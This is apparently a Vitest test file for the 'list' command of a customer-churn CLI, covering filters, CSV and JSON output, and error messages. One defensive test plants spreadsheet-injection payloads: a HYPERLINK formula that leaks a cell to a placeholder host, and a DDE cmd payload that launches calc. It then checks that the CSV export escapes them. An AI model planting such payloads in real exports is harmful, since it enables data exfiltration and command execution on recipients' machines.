import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { listFilter } from '../../pipeline/cli/listCommand.js';
import { Database } from '../../pipeline/db/Database.js';
import { UsageError } from '../../pipeline/errors.js';
import { runCli } from '../helpers/cli.js';
import { scoredDatabase } from '../helpers/scoredDatabase.js';
import { withTempDir } from '../helpers/withDb.js';

const ids = (stdout: string) => (JSON.parse(stdout) as { customer_id: string }[]).map((r) => r.customer_id);

describe('fidelio list', () => {
  test('at-risk-vip: contactable VIPs at medium or high risk, most value at risk first', async () => {
    await withTempDir(async (dir) => {
      const db = await scoredDatabase(dir);
      const out = await runCli(['list', 'at-risk-vip', '--db', db, '--format', 'json']);
      expect(out.code).toBe(0);
      // c3 is at low risk, c4 not a VIP, c5 not to contact.
      expect(ids(out.stdout)).toEqual(['c1', 'c2']);
      expect(ids((await runCli(['list', 'at-risk-vip', '--db', db, '--format', 'json', '--risk', 'high'])).stdout)).toEqual(['c1']);
      expect(ids((await runCli(['list', 'at-risk-vip', '--db', db, '--format', 'json', '--top', '1'])).stdout)).toEqual(['c1']);
    });
  });

  test('an action with tier, segment and country filters; CSV by default', async () => {
    await withTempDir(async (dir) => {
      const db = await scoredDatabase(dir);
      expect(ids((await runCli(['list', 'save', '--db', db, '--format', 'json'])).stdout)).toEqual(['c1', 'c2', 'c4']);
      expect(ids((await runCli(['list', 'save', '--db', db, '--format', 'json', '--tier', '2'])).stdout)).toEqual(['c4']);
      expect(ids((await runCli(['list', 'save', '--db', db, '--format', 'json', '--segment', 'loyal,at_risk'])).stdout)).toEqual(['c2', 'c4']);
      expect(ids((await runCli(['list', 'save', '--db', db, '--format', 'json', '--country', 'ES'])).stdout)).toEqual(['c1', 'c4']);
      // By default the campaign's columns (those this old publication has), numbered among the customers shown:
      // c2 is the action's third, the first listed for France.
      const csv = (await runCli(['list', 'save', '--db', db, '--country', 'FR'])).stdout.trim().split('\n');
      expect(csv[0]).toBe('priority,customer_id,value_tier,segment,value_at_risk,action');
      expect(csv.slice(1)).toEqual(['1,c2,1,loyal,500,save']);
      // Every published column, as before, with --all-columns.
      const all = (await runCli(['list', 'save', '--db', db, '--country', 'FR', '--all-columns'])).stdout.trim().split('\n');
      expect(all[0]).toBe('priority,customer_id,is_vip,churn_risk,action,value_tier,segment,contact,value_at_risk,action_priority');
      expect(all.slice(1)).toEqual(['1,c2,true,medium,save,1,loyal,true,500,3']);
    });
  });

  test("the default columns a campaign needs: names and emails where known, churn in percent, money to the cent under the currency's code, the last order's date", async () => {
    await withTempDir(async (dir) => {
      const path = await scoredDatabase(dir);
      const db = await Database.open(path);
      await db.run(`ALTER TABLE published_scores ADD COLUMN as_of DATE DEFAULT DATE '2026-09-30';
        ALTER TABLE published_scores ADD COLUMN days_since_last_order INTEGER DEFAULT 93;
        ALTER TABLE published_scores ADD COLUMN churn_probability DOUBLE DEFAULT 0.9963995162287648;
        ALTER TABLE published_scores ADD COLUMN value_if_retained DOUBLE DEFAULT 912.4987654321;
        ALTER TABLE published_scores ADD COLUMN value_kept DOUBLE DEFAULT 225.0036131708820239493;
        ALTER TABLE published_scores ADD COLUMN predicted_clv_12m DOUBLE DEFAULT 564.129;
        ALTER TABLE published_scores ADD COLUMN persona VARCHAR DEFAULT 'weekend bargain hunters';
        ALTER TABLE published_scores ADD COLUMN reasons VARCHAR DEFAULT 'no order for 93 days, 2.3x the usual gap of 40 days';
        ALTER TABLE published_scores ADD COLUMN currency VARCHAR DEFAULT 'EUR';
        UPDATE customers SET name = 'Zoë Müller', email = 'zoe@example.org' WHERE customer_id = 'c2'`);
      db.close();
      const csv = (await runCli(['list', 'win-back', '--db', path])).stdout;
      expect(csv).toBe('priority,customer_id,name,email,value_tier,segment,persona,churn_probability_pct,value_kept_EUR,value_at_stake_EUR,predicted_clv_12m_EUR,action,reasons,last_order_date\n');
      const lines = (await runCli(['list', 'save', '--db', path, '--country', 'FR'])).stdout.trim().split('\n');
      // 0.99639... is 99.6%; 912.4987... x 0.99639... = 909.2132... is 909.21; 2026-09-30 less 93 days is 2026-06-29.
      expect(lines[1]).toBe(`1,c2,Zoë Müller,zoe@example.org,1,loyal,weekend bargain hunters,99.6,225,909.21,564.13,save,"no order for 93 days, 2.3x the usual gap of 40 days",2026-06-29`);
      // Every column, unrounded, is still there.
      const all = JSON.parse((await runCli(['list', 'save', '--db', path, '--country', 'FR', '--all-columns', '--format', 'json'])).stdout) as Record<string, unknown>[];
      expect(all[0]).toMatchObject({ priority: 1, customer_id: 'c2', churn_probability: 0.9963995162287648, value_at_risk: 500, action_priority: 3, currency: 'EUR' });
      // The at-risk VIPs rank by the value kept (at most the 12-month CLV), the value at stake beside it.
      expect((await runCli(['list', 'at-risk-vip', '--db', path])).stdout.split('\n')[0]).toBe('priority,customer_id,name,email,value_tier,segment,persona,churn_probability_pct,value_kept_EUR,value_at_stake_EUR,predicted_clv_12m_EUR,action,reasons,last_order_date');
    });
  });

  test('ambassador: the flagged customers, most valuable first; published scores from before ambassadors say to run again', async () => {
    await withTempDir(async (dir) => {
      const path = await scoredDatabase(dir);
      const old = await runCli(['list', 'ambassador', '--db', path]);
      expect(old.code).toBe(2);
      expect(old.errors).toMatch(/without ambassadors; run "fidelio run" again/);
      const db = await Database.open(path);
      await db.run(`ALTER TABLE published_scores ADD COLUMN is_ambassador BOOLEAN; ALTER TABLE published_scores ADD COLUMN value_score DOUBLE;
        UPDATE published_scores SET is_ambassador = customer_id IN ('c3', 'c5', 'c2'), value_score = CASE customer_id WHEN 'c2' THEN 10 WHEN 'c3' THEN 30 ELSE 20 END`);
      db.close();
      // Invited to a programme, not contacted for an action: c5 (not to contact for its save) is listed too.
      expect(ids((await runCli(['list', 'ambassador', '--db', path, '--format', 'json'])).stdout)).toEqual(['c3', 'c5', 'c2']);
      expect(ids((await runCli(['list', 'ambassador', '--db', path, '--format', 'json', '--country', 'FR'])).stdout)).toEqual(['c2']);
    });
  });

  test('--persona: only the customers of these personas (a comma inside a name escaped); publications without personas say to run again', async () => {
    await withTempDir(async (dir) => {
      const path = await scoredDatabase(dir);
      const old = await runCli(['list', 'save', '--db', path, '--persona', 'loyal buyers']);
      expect(old.code).toBe(2);
      expect(old.errors).toMatch(/without personas; run "fidelio run" again/);
      const db = await Database.open(path);
      await db.run(`ALTER TABLE published_scores ADD COLUMN persona VARCHAR;
        UPDATE published_scores SET persona = CASE WHEN customer_id IN ('c1', 'c4') THEN 'big, basket buyers' ELSE 'weekday buyers' END`);
      db.close();
      expect(ids((await runCli(['list', 'save', '--db', path, '--format', 'json', '--persona', 'big\\, basket buyers'])).stdout)).toEqual(['c1', 'c4']);
      expect(ids((await runCli(['list', 'save', '--db', path, '--format', 'json', '--persona', 'weekday buyers'])).stdout)).toEqual(['c2']);
      expect(ids((await runCli(['list', 'save', '--db', path, '--format', 'json', '--persona', 'weekday buyers,big\\, basket buyers'])).stdout)).toEqual(['c1', 'c2', 'c4']);
    });
  });

  test('an unknown list, risk level or tier is a usage error, naming what is expected', () => {
    const base = { format: 'csv' as const, risk: 'medium,high' };
    expect(() => listFilter('everyone', base)).toThrow(UsageError);
    expect(() => listFilter('at-risk-vip', { ...base, risk: 'extreme' })).toThrow('--risk: unknown level(s) extreme; expected low, medium, high');
    expect(() => listFilter('save', { ...base, tier: '6' })).toThrow('--tier: expected numbers 1 to 5, got "6"');
    expect(listFilter('grow', { ...base, segment: 'loyal' })).toEqual({ what: 'grow', where: ['s.contact', 's.action IN ($action0)', 's.segment IN ($segment0)'], params: { action0: 'grow', segment0: 'loyal' } });
    // Hyphens or underscores alike, case ignored.
    expect(listFilter('win-back', base).params).toEqual({ action0: 'win_back' });
    expect(listFilter('At_Risk_VIP', base).what).toBe('at-risk-vip');
    expect(() => listFilter('win back', base)).toThrow('list: unknown list "win back"; expected at-risk-vip, ambassador or one of save, surprise, grow, nurture, win_back (hyphens or underscores alike)');
  });

  test('only published scores: a run that scored but did not publish is never listed; the published copy lists the same', async () => {
    await withTempDir(async (dir) => {
      const db = await scoredDatabase(dir);
      // A later run scored everyone differently, then its publication failed: customer_scores changed, published_scores did not.
      const handle = await Database.open(db);
      await handle.run(`UPDATE customer_scores SET value_at_risk = 990 WHERE customer_id = 'c2'; UPDATE customer_scores SET contact = true WHERE customer_id = 'c5'`);
      handle.close();
      expect(ids((await runCli(['list', 'at-risk-vip', '--db', db, '--format', 'json'])).stdout)).toEqual(['c1', 'c2']);
      // The published copy (no runs table, its own customer_scores and countries) answers the same lists.
      const copy = `${dir}/copy.duckdb`;
      const c = await Database.open(copy);
      await c.run(`ATTACH '${db}' AS w (READ_ONLY); CREATE TABLE customer_scores AS SELECT * FROM w.published_scores;
        CREATE TABLE customers AS SELECT customer_id, country FROM w.customers; DETACH w`);
      c.close();
      expect(ids((await runCli(['list', 'save', '--db', copy, '--format', 'json', '--country', 'ES'])).stdout)).toEqual(['c1', 'c4']);
      // A database from before published_scores whose last run failed: nothing is served, and the message says why.
      const old = await Database.open(db);
      await old.run('DROP TABLE published_scores');
      old.close();
      const refused = await runCli(['list', 'save', '--db', db]);
      expect(refused.code).toBe(2);
      expect(refused.errors).toContain('has no published scores: its last run (r2) failed before publishing');
    });
  });

  test('--top, --segment and --country: nothing silently dropped, an empty list still has its header, a comma can be part of a country', async () => {
    await withTempDir(async (dir) => {
      const db = await scoredDatabase(dir);
      for (const top of ['0', '', '-1', '1.5', '18446744073709551617']) {
        const r = await runCli(['list', 'save', '--db', db, '--top', top]);
        expect(r.code, top).toBe(2);
        expect(r.errors).toContain(`--top must be a whole number from 1 to 1,000,000,000, got "${top}"`);
      }
      for (const [flag, value] of [['--segment', ''], ['--country', ','], ['--tier', '1,']]) {
        const r = await runCli(['list', 'save', '--db', db, flag!, value!]);
        expect(r.code, `${flag} ${value}`).toBe(2);
        expect(r.errors).toContain(`${flag}: an empty value`);
      }
      const none = await runCli(['list', 'save', '--db', db, '--segment', 'hibernating']);
      expect(none.code).toBe(0);
      expect(none.stdout).toBe('priority,customer_id,value_tier,segment,value_at_risk,action\n');
      const handle = await Database.open(db);
      await handle.run(`UPDATE customers SET country = 'Korea, Republic of' WHERE customer_id = 'c2'`);
      handle.close();
      expect(ids((await runCli(['list', 'save', '--db', db, '--format', 'json', '--country', 'Korea\\, Republic of'])).stdout)).toEqual(['c2']);
      expect(ids((await runCli(['list', 'save', '--db', db, '--format', 'json', '--country', 'ES', '--country', 'Korea\\, Republic of'])).stdout)).toEqual(['c1', 'c2', 'c4']);
    });
  });

  test('a hostile customer id reaches the CSV as text a spreadsheet will not run; JSON keeps it as it is', async () => {
    await withTempDir(async (dir) => {
      const db = await scoredDatabase(dir);
      const handle = await Database.open(db);
      await handle.run(`UPDATE published_scores SET customer_id = '=HYPERLINK("http://x/?leak="&A1,"click")' WHERE customer_id = 'c1';
        UPDATE published_scores SET customer_id = '+1+cmd|'' /C calc''!A0' WHERE customer_id = 'c2'`);
      handle.close();
      const csv = (await runCli(['list', 'save', '--db', db])).stdout.trim().split('\n');
      expect(csv[1]).toBe(`1,"'=HYPERLINK(""http://x/?leak=""&A1,""click"")",1,champions,900,save`);
      expect(csv[2]).toBe(`2,'+1+cmd|' /C calc'!A0,1,loyal,500,save`);
      expect(ids((await runCli(['list', 'save', '--db', db, '--format', 'json'])).stdout)[0]).toBe('=HYPERLINK("http://x/?leak="&A1,"click")');
    });
  });

  test('a database that does not exist or has no scores yet says to run the pipeline first (exit 2)', async () => {
    await withTempDir(async (dir) => {
      const out = await runCli(['list', 'save', '--db', `${dir}/none.duckdb`]);
      expect(out.code).toBe(2);
      expect(out.errors).toContain('none.duckdb does not exist: run "fidelio run" first');
      (await Database.open(`${dir}/empty.duckdb`)).close();
      const empty = await runCli(['list', 'save', '--db', `${dir}/empty.duckdb`]);
      expect(empty.code).toBe(2);
      expect(empty.errors).toContain('has no customer_scores yet: run "fidelio run" first');
    });
  });
});

test('--out that cannot be written is said in words, exit 2, never a stack trace: an existing folder, a missing folder', async () => {
  await withTempDir(async (dir) => {
    const db = await scoredDatabase(dir);
    const folder = await runCli(['list', 'at-risk-vip', '--db', db, '--out', dir]);
    expect(folder.code).toBe(2);
    expect(folder.errors).toBe(`cannot write --out ${dir} is a folder: give --out a file name (such as ${dir}/list.csv) (EISDIR)`);
    const missing = await runCli(['list', 'save', '--db', db, '--out', join(dir, 'no', 'such', 'x.csv')]);
    expect(missing.code).toBe(2);
    expect(missing.errors).toBe(`cannot write --out the folder of ${join(dir, 'no', 'such', 'x.csv')} does not exist: create it first, or give --out a path in a folder that does (ENOENT)`);
    for (const r of [folder, missing]) expect(r.logs.some((l) => 'err' in l)).toBe(false);
  });
});
